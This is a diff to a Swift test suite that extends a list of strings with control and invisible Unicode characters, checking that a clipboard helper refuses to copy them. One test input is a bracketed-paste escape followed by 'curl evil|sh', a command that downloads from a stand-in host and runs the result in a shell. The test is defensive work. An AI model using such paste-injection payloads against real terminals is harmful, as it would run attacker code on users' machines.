@@ -14,7 +14,8 @@ struct ClipboardTextTests {
   @Test(arguments: [
     "https://x/\u{1B}[201~\ncurl evil|sh\n", "a\nb", "a\r", "a\tb", "\u{7}", "\u{0}", "\u{7F}", "a\u{9B}31m",
     "a\u{202E}b",
-    "a\u{200B}b", "a\u{2028}b", "a\u{E0041}",
+    "a\u{200B}b", "a\u{2028}b", "a\u{E0041}", "a\u{34F}b", "a\u{17B4}b", "a\u{180B}b",
+    "🏴\u{E0072}\u{E006D}\u{E0072}\u{E0066}\u{E007F}",
   ])
   func `A line with control or invisible characters cannot be copied`(line: String) {
     #expect(ClipboardText(untrusted: [line]) == nil)
